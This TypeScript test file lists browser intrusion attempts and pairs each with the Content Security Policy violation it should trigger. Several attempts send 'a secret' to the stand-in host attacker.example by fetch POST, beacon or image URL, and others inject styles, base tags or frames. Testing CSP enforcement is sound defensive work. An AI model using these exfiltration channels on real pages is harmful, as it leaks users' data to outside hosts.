import type { Intrusion } from './intrusions.ts';

/** Ways to send something away, to bring something in, or to change what a person sees. */
export const otherIntrusions: readonly Intrusion[] = [
  {
    what: 'a request to a foreign host',
    attempt: () => {
      void fetch('https://attacker.example/', { method: 'POST', body: 'a secret' }).catch(() => undefined);
    },
    reported: /^policy violation: connect-src https:\/\/attacker\.example/,
  },
  {
    what: 'a beacon',
    attempt: () => navigator.sendBeacon('https://attacker.example/', 'a secret'),
    reported: /^policy violation: connect-src https:\/\/attacker\.example/,
  },
  {
    what: 'a socket',
    attempt: () => new WebSocket('wss://attacker.example/').close(),
    reported: /^policy violation: connect-src wss:\/\/attacker\.example/,
  },
  {
    what: 'a stream of events',
    attempt: () => new EventSource('https://attacker.example/'),
    reported: /^policy violation: connect-src https:\/\/attacker\.example/,
  },
  {
    what: 'a form that leaves',
    attempt: () => {
      const form = document.createElement('form');
      form.action = 'https://attacker.example/';
      document.body.append(form);
      form.submit();
    },
    reported: /^policy violation: form-action https:\/\/attacker\.example/,
  },
  {
    what: 'a form that stays',
    attempt: () => {
      const form = document.createElement('form');
      form.action = '/#planted';
      document.body.append(form);
      form.submit();
    },
    reported: /^policy violation: form-action http:\/\/localhost/,
    trace: () => (location.href.includes('planted') ? 'done' : undefined),
  },
  {
    what: 'an image from elsewhere',
    attempt: () => {
      new Image().src = 'https://attacker.example/?a-secret';
    },
    reported: /^policy violation: img-src https:\/\/attacker\.example/,
  },
  {
    what: 'an image in a data: address',
    attempt: () => {
      const image = new Image();
      image.addEventListener('load', () => Reflect.set(globalThis, 'planted', 'done'));
      image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
    },
    reported: /^policy violation: img-src data/,
    trace: () => Reflect.get(globalThis, 'planted'),
  },
  {
    what: 'a film from elsewhere',
    attempt: () => {
      const film = document.createElement('video');
      film.src = 'https://attacker.example/';
      film.load();
    },
    reported: /^policy violation: media-src https:\/\/attacker\.example/,
  },
  {
    what: 'a font from elsewhere',
    attempt: () => {
      void new FontFace('planted', 'url(https://attacker.example/font)').load().catch(() => undefined);
    },
    reported: /^policy violation: font-src https:\/\/attacker\.example/,
  },
  {
    what: 'a style attribute',
    attempt: () => document.body.setAttribute('style', 'position: fixed'),
    reported: /^policy violation: style-src-attr inline/,
    trace: () => (getComputedStyle(document.body).position === 'fixed' ? 'done' : undefined),
  },
  {
    what: 'a style element',
    attempt: () => {
      const style = document.createElement('style');
      style.append('body { position: fixed }');
      document.head.append(style);
    },
    reported: /^policy violation: style-src-elem inline/,
    trace: () => (getComputedStyle(document.body).position === 'fixed' ? 'done' : undefined),
  },
  {
    what: 'a style sheet from elsewhere',
    attempt: () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://attacker.example/style.css';
      document.head.append(link);
    },
    reported: /^policy violation: style-src-elem https:\/\/attacker\.example/,
  },
  {
    what: 'another base for every address',
    attempt: () => {
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.prepend(base);
    },
    reported: /^policy violation: base-uri https:\/\/attacker\.example/,
    trace: () => (document.baseURI === 'https://attacker.example/' ? 'done' : undefined),
  },
  {
    what: 'a frame of its own',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = '/favicon.svg';
      document.body.append(frame);
    },
    reported: /^policy violation: frame-src/,
    trace: () =>
      document.querySelector('iframe')?.contentDocument?.querySelector('svg') ? 'done' : undefined,
  },
  {
    what: 'a frame from elsewhere',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
    },
    reported: /^policy violation: frame-src https:\/\/attacker\.example/,
  },
  {
    what: 'an object',
    attempt: () => {
      const object = document.createElement('object');
      object.addEventListener('load', () => Reflect.set(globalThis, 'planted', 'done'));
      object.data = '/favicon.svg';
      document.body.append(object);
    },
    reported: /^policy violation: (object-src|require-trusted-types-for)/,
    trace: () => Reflect.get(globalThis, 'planted'),
  },
  {
    what: 'an embedded document',
    attempt: () => {
      const embedded = document.createElement('embed');
      embedded.addEventListener('load', () => Reflect.set(globalThis, 'planted', 'done'));
      embedded.src = '/favicon.svg';
      document.body.append(embedded);
    },
    reported: /^policy violation: (object-src|require-trusted-types-for)/,
    trace: () => Reflect.get(globalThis, 'planted'),
  },
];
